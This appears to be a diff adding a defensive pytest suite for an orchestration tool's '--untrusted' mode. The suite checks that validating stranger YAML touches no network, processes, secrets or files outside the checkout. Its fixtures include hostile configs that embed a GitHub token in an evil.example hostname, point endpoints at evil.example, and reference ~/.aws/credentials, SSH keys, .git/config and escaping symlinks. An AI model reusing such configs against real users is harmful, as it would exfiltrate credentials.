@@ -1,0 +1,284 @@
+"""`--untrusted`: a stranger's files are data. What Python does while they are read is written down."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+from leaves import all_leaves, valid, written
+from typer.testing import CliRunner
+
+import orch
+from orch.cli.main import app
+from orch.spec import load_paths
+from orch.spec.diagnostics import render_json
+from orch.spec.models import forms
+from orch.spec.models.reads import reads_of
+from orch.spec.strangers import Fence
+
+WATCHED = Path(__file__).parent / "watched.py"
+SECRETS = {
+    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMIK7MDENGbPxRfiCY",
+    "GITHUB_TOKEN": "ghp_qzxwvJKQvbxz0123456789",
+}
+
+HOSTILE = {
+    "fleet.yml": """\
+type: fleet
+name: lab
+spot_policy: ${{ env.AWS_SECRET_ACCESS_KEY }}
+env: [AWS_SECRET_ACCESS_KEY, "TOKEN=${{ env.GITHUB_TOKEN }}"]
+init:
+  - {file: ~/.aws/credentials}
+  - {file: linked-script.sh}
+  - {file: linked-folder/script.sh}
+ssh_config:
+  identity_file: HOME/.ssh/id_rsa
+  proxy_jump: {hostname: login.evil.example, identity_file: ../outside/key}
+  hosts: ["${{ env.GITHUB_TOKEN }}.evil.example", "gpu[1-4].evil.example"]
+""",
+    "task.yml": """\
+type: task
+name: train
+image: x
+env: [GITHUB_TOKEN]
+files: [~/.ssh/id_rsa, linked-folder, ../outside/secret.yml, there/../.git/config]
+commands: ["echo ${{ env.GITHUB_TOKEN }}"]
+""",
+    "orch.yml": """\
+state: s3://bucket?endpoint=evil.example
+ledger: postgresql://evil.example/runs
+backends:
+  - {type: aws, endpoint_url: "https://evil.example", creds: {type: default, profile: runs-commands}}
+""",
+}
+HARMLESS = {
+    "local": "type: fleet\nname: lab\nbackend: local\nnodes: 2\nresources: {cpu: 1, memory: 2GB}\n",
+    "ssh": "type: fleet\nname: lab\nssh_config:\n  user: me\n  identity_file: keys/id\n"
+    "  proxy_jump: {hostname: login.evil.example}\n  hosts: ['gpu[1-4].evil.example']\n",
+    "aws": "type: fleet\nname: lab\nbackends: [aws]\nnodes: 2\nplacement: cluster\nregions: [us-east-1]\n"
+    "resources: {gpu: 'H100:8'}\nreservation: cr-0123456789abcdef0\nnetwork: {vpc: vpc-1}\n"
+    "init: [{file: setup.sh}]\n",
+    "gcp": "type: fleet\nname: lab\nbackends: [gcp]\nnodes: 2\nplacement: cluster\nzones: [us-central1-a]\n"
+    "resources: {gpu: 'H100:8'}\nnetwork: {name: shared}\n",
+}
+
+
+@dataclass(frozen=True)
+class Repository:
+    """A checkout with links that lead out of it, beside a folder that holds what must stay unseen."""
+
+    root: Path
+    outside: Path
+    home: Path
+
+    def write(self, files: dict[str, str]) -> None:
+        for name, text in files.items():
+            (self.root / name).write_text(text.replace("HOME", str(self.home)))
+
+
+@pytest.fixture
+def repository(tmp_path: Path) -> Repository:
+    root, outside, home = tmp_path / "checkout", tmp_path / "outside", tmp_path / "home"
+    for folder in (root / ".git", root / "keys", outside, home / ".ssh", home / ".aws"):
+        folder.mkdir(parents=True)
+    (root / ".git" / "config").write_text("extraheader = AUTHORIZATION: basic ghp\n")
+    (root / "keys" / "id").write_text("key\n")
+    (root / "setup.sh").write_text("true\n")
+    for name in ("secret.yml", "key", "script.sh"):
+        (outside / name).write_text("type: fleet\npassword: canary-of-a-file\n")
+    (home / ".ssh" / "id_rsa").write_text("canary-of-a-file\n")
+    (home / ".ssh" / "config").write_text("Host *\n  ProxyCommand touch /tmp/never\n")
+    (home / ".aws" / "credentials").write_text("canary-of-a-file\n")
+    (root / "linked-script.sh").symlink_to(outside / "script.sh")
+    (root / "linked-folder").symlink_to("../outside")
+    (root / "linked.yml").symlink_to(outside / "secret.yml")
+    return Repository(root, outside, home)
+
+
+def watched(repository: Repository, *words: str) -> tuple[dict[str, Any], str]:
+    """What `orch` did, and all that it said."""
+    target = repository.root.parent / "watched.json"
+    environment = {**os.environ, **SECRETS, "HOME": str(repository.home)}
+    done = subprocess.run(
+        [sys.executable, str(WATCHED), str(target), *words],
+        cwd=repository.root,
+        env=environment,
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    assert target.exists(), done.stderr
+    return json.loads(target.read_text()), done.stdout + done.stderr
+
+
+def check_innocent(repository: Repository, found: dict[str, Any], said: str) -> None:
+    """No socket, no process, no look at the outside, no secret of the environment or of a file."""
+    assert found["done"] == []
+    assert not set(SECRETS) & set(found["variables"])
+    home, outside = str(repository.home), str(repository.outside)
+    # Newer prices that the user fetched; the user's own settings of a library.
+    known = (f"{home}/.local/share/orch", f"{home}/.local/etc/clustershell", f"{home}/.config/clustershell")
+    looked_at = [*found["opened"], *found["looked_at"]]
+    assert [
+        each for each in looked_at if each.startswith((home, outside)) and not each.startswith(known)
+    ] == []
+    folders = {sys.prefix, sys.base_prefix, os.path.dirname(os.__file__), *orch.__path__, *sys.path[1:]}
+    own = (*folders, *map(os.path.realpath, folders), str(WATCHED.parent), str(repository.root))
+    shared = ("/dev/null", "/usr/share/zoneinfo", "/etc/localtime", "/etc/clustershell")
+    report = str(repository.root.parent / "watched.json")
+    others = [each for each in found["opened"] if os.path.isabs(each) and each != report]
+    assert [each for each in others if not each.startswith((*own, *known, *shared))] == []
+    assert not list(repository.root.rglob(".orch"))
+    assert not [value for value in (*SECRETS.values(), "canary-of-a-file") if value in said]
+
+
+@pytest.mark.parametrize("format", ["human", "json", "github", "sarif"])
+def test_validate_reads_nothing_but_the_repository(repository: Repository, format: str) -> None:
+    repository.write(HOSTILE)
+    found, said = watched(repository, "validate", ".", "--untrusted", "--format", format)
+    check_innocent(repository, found, said)
+    assert found["code"] == 3
+
+
+def test_each_refused_use_is_a_finding_at_its_line(repository: Repository) -> None:
+    repository.write(HOSTILE)
+    said = CliRunner().invoke(app, ["validate", str(repository.root), "--untrusted", "--format", "json"])
+    told = [
+        (Path(each["file"]).name, each["line"], each["code"])
+        for each in json.loads(said.stdout)["diagnostics"]
+        if each["code"] in ("ORCH176", "ORCH177", "ORCH178")
+    ]
+    assert told == [
+        *[("fleet.yml", line, "ORCH176") for line in (3, 4, 4)],
+        *[("fleet.yml", line, "ORCH177") for line in (6, 7, 8, 10, 11)],
+        ("fleet.yml", 12, "ORCH176"),
+        ("linked.yml", 1, "ORCH177"),
+        *[("orch.yml", line, "ORCH178") for line in (1, 2, 4, 4)],
+        ("task.yml", 4, "ORCH176"),
+        *[("task.yml", 5, "ORCH177") for _ in range(4)],
+        ("task.yml", 6, "ORCH176"),
+    ]
+
+
+@pytest.mark.parametrize("backend", HARMLESS)
+def test_preview_of_a_fleet_asks_nobody_and_starts_nothing(repository: Repository, backend: str) -> None:
+    repository.write({"fleet.yml": HARMLESS[backend], "orch.yml": HOSTILE["orch.yml"]})
+    found, said = watched(repository, "preview", "fleet.yml", "--untrusted")
+    check_innocent(repository, found, said)
+    assert found["code"] == 0, said
+    assert "not looked at: the state" in said
+    assert f"nodes on {backend}" in said
+
+
+def test_preview_of_a_hostile_fleet_stops_at_its_findings(repository: Repository) -> None:
+    repository.write(HOSTILE)
+    found, said = watched(repository, "preview", "fleet.yml", "--untrusted")
+    check_innocent(repository, found, said)
+    assert found["code"] == 3
+    assert said.count("ORCH176") + said.count("ORCH177") == 9
+
+
+def test_a_preview_tells_what_the_catalogue_alone_knows(repository: Repository) -> None:
+    fleet = HARMLESS["aws"].replace("reservation: cr-0123456789abcdef0\n", "")
+    cases = {
+        fleet.replace("us-east-1", "us-eest-1"): (3, "ORCH200"),
+        fleet + "instance_types: [p5.48xlrge]\n": (3, "ORCH202"),
+        fleet + "budget: {hourly: 10}\n": (4, "ORCH281"),
+        fleet + "ttl: 1h\n": (3, "ORCH118"),
+        fleet.replace("setup.sh", "gone.sh"): (3, "ORCH129"),
+        HARMLESS["local"].replace("nodes: 2", "nodes: 500"): (3, "ORCH212"),
+        HARMLESS["local"].replace("cpu: 1", "gpu: 1"): (3, "ORCH211"),
+    }
+    for text, (code, told) in cases.items():
+        repository.write({"fleet.yml": text})
+        said = CliRunner().invoke(app, ["preview", str(repository.root / "fleet.yml"), "--untrusted"])
+        error: Any = said.exception
+        assert (int(error.exit_code), told in error.text()) == (code, True), (text, error)
+
+
+def test_a_preview_as_json_says_what_it_did_not_look_at(repository: Repository) -> None:
+    repository.write({"fleet.yml": HARMLESS["aws"]})
+    said = CliRunner().invoke(app, ["preview", str(repository.root / "fleet.yml"), "--untrusted", "--json"])
+    found = json.loads(said.stdout)
+    assert (found["schema"], found["fleet"], found["nodes"], found["changes"]) == (1, "lab", 2, None)
+    assert found["cost"]["hourly"] > 100
+    assert any("cr-0123456789abcdef0" in each for each in found["not_looked_at"])
+
+
+@pytest.mark.parametrize("more", [["--exit-code"], ["--rehearse"]])
+def test_what_would_look_at_the_state_does_not_go_with_it(repository: Repository, more: list[str]) -> None:
+    repository.write({"fleet.yml": HARMLESS["local"]})
+    said = CliRunner().invoke(app, ["preview", str(repository.root / "fleet.yml"), "--untrusted", *more])
+    assert said.exit_code == 2
+
+
+def test_allowed_names_are_let_through_and_still_not_read(repository: Repository) -> None:
+    repository.write({"task.yml": HOSTILE["task.yml"]})
+    command = ["validate", "task.yml", "--untrusted", "--allow", "GITHUB_TOKEN", "--allow", "~/.ssh/id_rsa"]
+    found, said = watched(repository, *command)
+    check_innocent(repository, found, said)
+    assert "note ORCH176" in said
+    assert "error ORCH176" not in said
+    assert said.count("error ORCH177") == 3
+    assert CliRunner().invoke(app, ["validate", "task.yml", "--allow", "X"]).exit_code == 2
+
+
+def test_every_property_that_names_the_environment_is_told(tmp_path: Path) -> None:
+    leaves = all_leaves()
+    for leaf in leaves:
+        document = next(leaf.documents("a ${{ env.TOKEN }}"))
+        found = load_paths(
+            [written(tmp_path, leaf, document)], environ={"TOKEN": "qzxwv"}, untrusted=()
+        ).diagnostics
+        assert [each for each in found if each.code == "ORCH176" and "TOKEN" in each.summary], str(leaf)
+        assert "qzxwv" not in render_json(found)
+    assert len(leaves) > 700
+
+
+def test_every_path_on_this_machine_is_kept_inside(tmp_path: Path) -> None:
+    """Such a property takes `~/x`; paths in containers and on nodes are absolute."""
+    kept = 0
+    for leaf in all_leaves():
+        last = leaf.steps[-1]
+        reads = reads_of(last.owner.model_fields[last.name])
+        if reads is None or reads.form is not forms.PATH or last.key == "path":
+            continue  # `path`: where a copy goes in a container, whose `~` is its user's
+        for _, document, _ in valid(tmp_path, leaf, ("~/.ssh/id_rsa",)):
+            found = load_paths([written(tmp_path, leaf, document)], untrusted=()).diagnostics
+            assert {"ORCH177", "ORCH178"} & {each.code for each in found}, str(leaf)
+            kept += 1
+    assert kept > 20
+
+
+def test_links_are_followed_inside_only(tmp_path: Path) -> None:
+    root = tmp_path / "root"
+    (root / "a" / "b").mkdir(parents=True)
+    (root / "in").symlink_to("a/b")
+    (root / "a" / "up").symlink_to("../..")
+    (root / "round").symlink_to("round")
+    (root / "absolute").symlink_to(root / "a")
+    (root / "etc").symlink_to("/etc")
+    (root / "chain").symlink_to("absolute/up")
+    fence = Fence(root)
+    for path in ("a/b/file", "in/file", "absolute/b", "in/../file", "gone/file", "a/./b"):
+        assert fence.holds(root / path), path
+    for path in (
+        "etc/passwd",
+        "a/up/x",
+        "chain",
+        "round",
+        "../x",
+        "in/../../../x",
+        ".git/config",
+        "a/.orch/key",
+    ):
+        assert not fence.holds(f"{root}/{path}"), path
+    for path in ("/etc/passwd", f"{root}-other/x", str(tmp_path)):
+        assert not fence.holds(path), path
